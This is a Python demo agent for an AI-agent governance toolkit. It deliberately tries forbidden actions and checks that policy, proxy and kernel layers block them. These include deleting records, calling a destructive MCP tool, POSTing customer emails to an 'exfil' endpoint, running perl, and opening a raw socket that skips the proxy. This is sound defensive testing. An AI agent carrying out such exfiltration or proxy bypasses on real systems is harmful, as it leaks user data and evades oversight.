"""The Python example agent: one story that every governance layer has a part in.

    AA_DEMO_LLM_URL=… AA_DEMO_MCP_URL=… AA_DEMO_EXFIL_URL=… \\
        aasm run --policy examples/agents/policy -- /var/cache/aa/venv-sdk/bin/python examples/agents/python/agent.py

(the URLs are what examples/agents/upstreams.py prints). Needs agent_assembly, langchain-core,
openai and mcp (the venv /var/cache/aa/venv-sdk has them). In order, one line per step:

  1. LangChain tools under @govern (SDK depth): `summarize` runs; `delete_records` is denied
     before its body runs; `web_search` 4 times, the 4th denied by the budget.
  2. An LLM call with the official `openai` SDK to the stub: through the proxy purely by the
     environment (HTTPS_PROXY, SSL_CERT_FILE), which charges its tokens.
  3. MCP with the official `mcp` SDK (ClientSession over streamable HTTP): `lookup_order` works;
     `delete_all_orders` is refused by the proxy (JSON-RPC error -32003).
  4. An HTTPS upload to the exfil endpoint: the proxy answers 403.
  5. Shell-outs: `uname -s` runs; `/usr/bin/perl` is killed by the kernel layer (SIGKILL).
  6. A raw TCP socket straight to the LLM stub's port, skipping the proxy: the kernel layer sees
     it and `aasm run` flags it as a bypass.

Each step checks its result against the layers of the run it is in — the SDK always governs
(from AA_GATEWAY_URL/AA_POLICY, else embedded with ../policy); the proxy when HTTPS_PROXY is
set; the kernel layer when AA_DEMO_LAYERS names `ebpf` (a SIGKILLed perl is taken as its proof
in any case) — and never crashes on a missing layer. The last line is a JSON summary
`{"agent": "python", "ok": …, "layers": {…}, "steps": {…}}`; the exit code is 0 when every step
behaved as expected.
"""

from __future__ import annotations

import asyncio
import importlib
import json
import os
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import mcp
from langchain_core.tools import tool
from mcp.client.streamable_http import streamable_http_client
from openai import OpenAI

import agent_assembly as aa

HERE = Path(__file__).resolve().parent
AGENT = "python"

# MCP 2.x names its error MCPError, 1.x McpError (mcp.shared.exceptions).
McpError: type[Exception] = getattr(mcp, "MCPError", None) or importlib.import_module("mcp.shared.exceptions").McpError

Step = dict[str, Any]
STEPS: dict[str, Step] = {}
RAN: dict[str, int] = {"summarize": 0, "delete_records": 0, "web_search": 0}


def layers() -> dict[str, Any]:
    named = {x.strip() for x in os.environ.get("AA_DEMO_LAYERS", "").split(",") if x.strip()}
    proxy = bool(os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy"))
    return {"sdk": "gateway" if os.environ.get("AA_GATEWAY_URL") else
            "policy" if os.environ.get("AA_POLICY") else "embedded-default",
            "proxy": proxy or "proxy" in named, "ebpf": "ebpf" in named}


LAYERS = layers()


def record(name: str, ok: bool, **detail: Any) -> None:
    STEPS[name] = {"ok": ok, **detail}
    print(f"[{AGENT}] {'ok  ' if ok else 'FAIL'} {name}: {json.dumps(detail, default=str)}", flush=True)


def step(name: str, fn: Callable[[], None]) -> None:
    """Runs one step; an unexpected exception fails that step, not the agent."""
    try:
        fn()
    except Exception as e:  # report, never crash
        record(name, False, error=f"{type(e).__name__}: {e}"[:500])


def need(var: str) -> str:
    value = os.environ.get(var)
    if not value:
        raise RuntimeError(f"{var} is not set (see examples/agents/upstreams.py)")
    return value


# --- 1. tools at SDK depth --------------------------------------------------------------------


@tool
@aa.govern
def summarize(text: str) -> str:
    """Summarize a text."""
    RAN["summarize"] += 1
    return text[:40]


@tool
@aa.govern
def delete_records(table: str) -> str:
    """Delete every record of a table (the policy forbids it)."""
    RAN["delete_records"] += 1
    return f"deleted {table}"


@tool
@aa.govern
def web_search(query: str) -> str:
    """Search the web."""
    RAN["web_search"] += 1
    return f"results for {query}"


def denial(e: aa.PolicyDenied) -> dict[str, Any]:
    return {"reason": e.reason, "policy_ids": e.policy_ids, "budget": e.budget, "message": e.message}


def sdk_steps() -> None:
    if not (os.environ.get("AA_GATEWAY_URL") or os.environ.get("AA_POLICY")):
        # No gateway and no policy: the SDK still governs, embedded, with the demo's policy.
        audit = Path(tempfile.mkdtemp(prefix="aa-demo-")) / "audit.jsonl"
        try:
            aa.init(policy=HERE.parent / "policy", agent_id=os.environ.get("AA_AGENT_ID", "demo-python"),
                    audit_file=audit)
        except aa.AgentAssemblyError as e:
            print(f"[{AGENT}] the SDK could not start: {e}", flush=True)

    def allowed() -> None:
        out = summarize.invoke({"text": "Quarterly revenue grew 12% on strong demand for widgets."})
        record("tool_allowed", RAN["summarize"] == 1, tool="summarize", result=out)

    def forbidden() -> None:
        try:
            delete_records.invoke({"table": "customers"})
            record("tool_forbidden", False, tool="delete_records", error="not denied")
        except aa.PolicyDenied as e:
            ran = RAN["delete_records"] > 0
            record("tool_forbidden", e.reason == "forbidden" and not ran, tool="delete_records", body_ran=ran,
                   **denial(e))

    def budget() -> None:
        calls: list[str] = []
        detail: dict[str, Any] = {}
        for i in range(4):
            try:
                web_search.invoke({"query": f"agent governance {i + 1}"})
                calls.append("allow")
            except aa.PolicyDenied as e:
                calls.append(e.reason)
                detail = denial(e)
        ok = calls == ["allow", "allow", "allow", "budget_exceeded"] and RAN["web_search"] == 3
        record("tool_budget", ok, tool="web_search", calls=calls, bodies_ran=RAN["web_search"], **detail)

    step("tool_allowed", allowed)
    step("tool_forbidden", forbidden)
    step("tool_budget", budget)


# --- 2. the LLM call ------------------------------------------------------------------------


def llm_step() -> None:
    # The official SDK, unchanged: HTTPS_PROXY and SSL_CERT_FILE route and trust the proxy.
    client = OpenAI(base_url=need("AA_DEMO_LLM_URL"), api_key="sk-demo-not-a-real-key", max_retries=0, timeout=30)
    r = client.chat.completions.create(model="gpt-4o-mini",
                                       messages=[{"role": "user", "content": "Summarize our orders."}])
    usage = r.usage.model_dump() if r.usage else None
    text = r.choices[0].message.content
    record("llm", text == "Hello" and usage is not None, model=r.model, text=text, usage=usage,
           via_proxy=LAYERS["proxy"])


# --- 3. MCP ---------------------------------------------------------------------------------


def text_of(result: Any) -> list[str]:
    return [c.text for c in getattr(result, "content", []) if getattr(c, "type", None) == "text"]


async def mcp_calls(url: str) -> None:
    async with streamable_http_client(url) as streams, mcp.ClientSession(streams[0], streams[1]) as session:
        await session.initialize()
        tools = [t.name for t in (await session.list_tools()).tools]
        ok = await session.call_tool("lookup_order", {"order_id": "A-1001"})
        got = text_of(ok)
        record("mcp_allowed", got == ["order A-1001: shipped"], tool="lookup_order", result=got, tools_listed=tools)
        try:
            res = await session.call_tool("delete_all_orders", {"confirm": True})
            # Without the proxy nothing stands between the agent and the server.
            record("mcp_forbidden", not LAYERS["proxy"], tool="delete_all_orders", refused=False, result=text_of(res))
        except McpError as e:
            err = getattr(e, "error", None)
            code = getattr(err, "code", None)
            record("mcp_forbidden", code == -32003, tool="delete_all_orders", refused=True, code=code,
                   message=getattr(err, "message", str(e)), data=getattr(err, "data", None))


def mcp_step() -> None:
    url = need("AA_DEMO_MCP_URL")

    def run() -> None:
        asyncio.run(mcp_calls(url))

    step("mcp_allowed", run)
    if "mcp_forbidden" not in STEPS:
        record("mcp_forbidden", False, error="not reached")


# --- 4. egress to the exfil endpoint ---------------------------------------------------------


def exfil_step() -> None:
    body = json.dumps({"customers": ["alice@example.com", "bob@example.com"]}).encode()
    req = urllib.request.Request(need("AA_DEMO_EXFIL_URL"), data=body, method="POST",
                                 headers={"content-type": "application/json"})
    # urllib reads HTTPS_PROXY; the default context trusts SSL_CERT_FILE.
    try:
        with urllib.request.urlopen(req, timeout=30, context=ssl.create_default_context()) as r:
            record("exfil", not LAYERS["proxy"], status=r.status, reached=True)
    except urllib.error.HTTPError as e:
        reason = e.read().decode(errors="replace")[:300]
        record("exfil", e.code == 403 and LAYERS["proxy"], status=e.code, reached=False, body=reason)


# --- 5. shell-outs --------------------------------------------------------------------------


def exec_steps() -> None:
    def allowed() -> None:
        r = subprocess.run(["uname", "-s"], capture_output=True, text=True, timeout=30)
        record("exec_allowed", r.returncode == 0 and r.stdout.strip() != "", argv=["uname", "-s"],
               returncode=r.returncode, stdout=r.stdout.strip())

    def forbidden() -> None:
        argv = ["/usr/bin/perl", "-e", "print 1"]
        r = subprocess.run(argv, capture_output=True, text=True, timeout=30)
        killed = r.returncode == -signal.SIGKILL
        # Killed: the kernel layer stopped it. Ran: fine only in a run without the kernel layer.
        ok = killed or (not LAYERS["ebpf"] and r.returncode == 0)
        record("exec_forbidden", ok, argv=argv, returncode=r.returncode, killed=killed, stdout=r.stdout.strip())

    step("exec_allowed", allowed)
    step("exec_forbidden", forbidden)


# --- 6. a raw socket past the proxy -----------------------------------------------------------


def raw_socket_step() -> None:
    port = urlsplit(need("AA_DEMO_LLM_URL")).port or 443
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n")  # not even TLS
        record("raw_socket", True, addr=f"127.0.0.1:{port}", connected=True)
    except OSError as e:
        # Refused by the kernel layer (egress forced through the proxy) is a fine outcome too.
        record("raw_socket", LAYERS["ebpf"], addr=f"127.0.0.1:{port}", connected=False, error=str(e))


def main() -> int:
    print(f"[{AGENT}] layers: {json.dumps(LAYERS)}", flush=True)
    sdk_steps()
    step("llm", llm_step)
    mcp_step()
    step("exfil", exfil_step)
    exec_steps()
    step("raw_socket", raw_socket_step)
    delivered = aa.shutdown()
    ok = all(s["ok"] for s in STEPS.values())
    print(json.dumps({"agent": AGENT, "ok": ok, "layers": LAYERS, "audit_delivered": delivered,
                      "steps": STEPS}, default=str), flush=True)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
